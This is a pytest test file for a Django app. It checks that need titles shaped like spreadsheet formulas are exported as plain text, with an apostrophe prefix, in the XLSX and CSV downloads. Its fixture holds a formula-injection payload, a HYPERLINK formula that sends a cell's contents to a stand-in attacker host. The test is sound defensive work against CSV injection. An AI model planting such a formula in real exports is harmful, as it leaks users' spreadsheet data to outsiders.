"""A need titled like a formula comes out of the list's download as inert text."""

from __future__ import annotations

import io

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from tests.factories import NeedFactory
from tests.frontend.downloads import column, table_of

pytestmark = pytest.mark.django_db

FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"点我")'


def test_a_formula_title_stays_text_in_the_workbook(client, secretary, tree):
    NeedFactory(code="N-EVIL", title=FORMULA, community=tree["C11"])
    client.force_login(secretary)
    response = client.get(reverse("needs"), {"format": "xlsx"})
    sheet = load_workbook(io.BytesIO(response.content)).active
    assert sheet is not None
    titles = [row[1] for row in sheet.iter_rows(min_row=2)]
    assert [cell.data_type for cell in titles] == ["s"]
    assert titles[0].value == "'" + FORMULA


def test_a_formula_title_starts_with_an_apostrophe_in_the_csv(client, secretary, tree):
    NeedFactory(code="N-EVIL", title=FORMULA, community=tree["C11"])
    NeedFactory(code="N-CALC", title="+1+1", community=tree["C11"])
    client.force_login(secretary)
    table = table_of(client.get(reverse("needs"), {"format": "csv"}))
    assert sorted(column(table, "需求")) == sorted(["'" + FORMULA, "'+1+1"])
